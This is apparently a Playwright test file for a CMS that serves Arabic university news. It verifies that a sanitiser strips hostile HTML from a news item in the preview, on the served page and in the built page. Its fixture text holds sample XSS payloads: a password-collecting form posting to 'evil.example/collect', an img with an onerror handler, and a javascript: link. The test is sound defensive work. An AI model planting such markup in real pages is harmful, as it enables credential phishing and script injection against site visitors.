/**
 * Editors' Markdown is made safe in one place (app/content/markdown.ts, decision 021): a news item
 * whose text carries a form, an image with an `onerror` handler and a `javascript:` link, written
 * through the CMS's form (file mode), shows none of them in the preview, on the site's page served
 * from the saved file, or on the page the build prerenders from it; its harmless words remain.
 */
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { expect, test, type FrameLocator, type Locator, type Page } from "@playwright/test";
import { declinedQuestions, openEntry, publishSaved, startCms, type Cms, arabicOnly } from "./cms-support.ts";
import { slugFromTitle } from "#app/admin/forms/slug-from-title.ts";

const TITLE = "الجامعة تفتح باب التسجيل في دورة الإسعافات الأولية";
/** The item's text as an editor might paste it: each line typed as a line of the Markdown editor. */
const BODY = [
  "تفتح الجامعة باب التسجيل في دورة الإسعافات الأولية لطلبتها.",
  "",
  "وتستمر الدورة ثلاثة أيام في مركز الصحة في الحرم، يتعلّم فيها المشاركون الإنعاش القلبي الرئوي، وإيقاف النزيف، " +
    "والتعامل مع الحروق والكسور والاختناق حتى يصل المسعفون. ويحصل من يحضر أيامها الثلاثة ويجتاز اختبارها العملي " +
    "على شهادة بإتمامها. وتُعقد الدورة مساءً حتى لا تتعارض مع المحاضرات، والمقاعد محدودة، فيُقبل المتقدّمون " +
    "بحسب أسبقية التسجيل.",
  "",
  '<form action="https://evil.example/collect" method="post"><input name="password" placeholder="كلمة السر"><button>أرسل</button></form>',
  "",
  `<img src=x onerror="alert('onerror')">`,
  "",
  "[التفاصيل](javascript:alert(1)) في مكتب شؤون الطلبة.",
];
/** Words of the text that must still be read on every page. */
const HARMLESS = ["تفتح الجامعة باب التسجيل في دورة الإسعافات الأولية لطلبتها.", "التفاصيل", "في مكتب شؤون الطلبة."];

/**
 * None of it on the page: nowhere in the document (whose header may have a search form of its own),
 * and nothing but text and text-level elements in the item's article; its harmless words remain.
 */
async function expectNoneOf(doc: Page | FrameLocator, article: Locator) {
  for (const words of HARMLESS) await expect(article).toContainText(words);
  for (const selector of [
    'form[action*="evil"]',
    'input[name="password"]',
    "[onerror]",
    'img[src="x"]',
    'a[href^="javascript:" i]',
  ])
    await expect(doc.locator(selector)).toHaveCount(0);
  await expect(article.locator("form, input, button, img, [onerror], [href]")).toHaveCount(0);
}

test.describe("a news item's Markdown, through the CMS, the preview and the build", () => {
  let cms: Cms;
  test.beforeAll(async () => {
    test.setTimeout(180_000);
    cms = await startCms("fs", 5193, 8193);
  });
  test.afterAll(() => cms?.stop());

  test("a form, an onerror attribute and a javascript: link reach neither the preview nor a page", async ({
    page,
    browser,
  }) => {
    test.setTimeout(420_000);
    const fired = declinedQuestions(page);

    await openEntry(page, cms.origin, "news/new");
    const title = page.locator(arabicOnly('input[id^="title-field-"]'));
    await expect(title).toHaveValue("", { timeout: 90_000 });
    await title.fill(TITLE);
    // The preview reads the entry through its schema: the slug and the day of last change, which a
    // save would fill in, are filled in here so that it draws the page.
    const slug = slugFromTitle({ title: TITLE });
    await page.locator(arabicOnly('input[id^="slug-field-"]')).fill(slug);
    for (const day of ["date", "updated"])
      await page
        .locator(arabicOnly(`input[id^="${day}-field-"]`))
        .locator("..")
        .getByRole("button", { name: "اليوم" })
        .click();
    await page
      .locator(arabicOnly('textarea[id^="summary-field-"]'))
      .fill("تفتح الجامعة باب التسجيل في دورة قصيرة في الإسعافات الأولية يقدّمها مركز الصحة في الحرم.");
    await page.locator(arabicOnly('[id^="category-field-"]')).click();
    await page.getByRole("option", { name: "إعلانات", exact: true }).click();

    // The text in the editor's Markdown mode, where HTML is written as it is.
    await page.locator(arabicOnly('.cms-editor-visual [role="switch"]')).click();
    const raw = page.locator('.cms-editor-raw [contenteditable="true"]');
    await raw.click();
    for (const [i, line] of BODY.entries()) {
      if (i > 0) await page.keyboard.press("Enter");
      if (line) await page.keyboard.insertText(line);
    }

    // The preview, drawn from the text as typed.
    const preview = page.frameLocator("iframe").first();
    const previewed = preview.locator("article.prose-ar");
    await expect(previewed).toContainText(HARMLESS[2], { timeout: 30_000 });
    await expectNoneOf(preview, previewed);

    await publishSaved(page);
    const root = cms.git("rev-parse", "--show-toplevel").trim();
    // The file holds the text as written: the sanitiser works on the way to a page, not on the file.
    const saved = readFileSync(join(root, `content/news/${slug}.md`), "utf8");
    expect(saved).toContain("<form");
    expect(saved).toContain("onerror=");
    expect(saved).toContain("javascript:alert(1)");

    // The site's page rendered from the saved file by the dev server (the loader, as on the server).
    await page.goto(`${cms.origin}/news/${slug}`);
    await expectNoneOf(page, page.locator("article.prose-ar"));

    // The build: the prerendered page of the item, read by a browser without scripts, as written.
    await promisify(execFile)(process.execPath, [join(root, "node_modules/.bin/react-router"), "build"], {
      cwd: root,
      maxBuffer: 64 * 1024 * 1024,
    });
    const file = join(root, `build/client/news/${slug}/index.html`);
    const html = readFileSync(file, "utf8");
    // Nowhere in the page as sent (its header has a search form of its own, its payload the item's
    // HTML again), and nothing but prose in the item's article.
    expect(html).not.toMatch(/onerror|javascript:|evil\.example|password/i);
    const article = /<article[^>]*prose-ar[^>]*>([\s\S]*?)<\/article>/.exec(html)?.[1];
    expect(article).toContain(HARMLESS[0]);
    expect(article).not.toMatch(/<(form|input|button|img)\b/i);
    const context = await browser.newContext({ javaScriptEnabled: false });
    const built = await context.newPage();
    await built.goto(`file://${file}`);
    await expectNoneOf(built, built.locator("article.prose-ar"));
    await context.close();

    // No handler ran and no link was followed on the way (an alert would have been recorded).
    expect(fired).toEqual([]);
  });
});
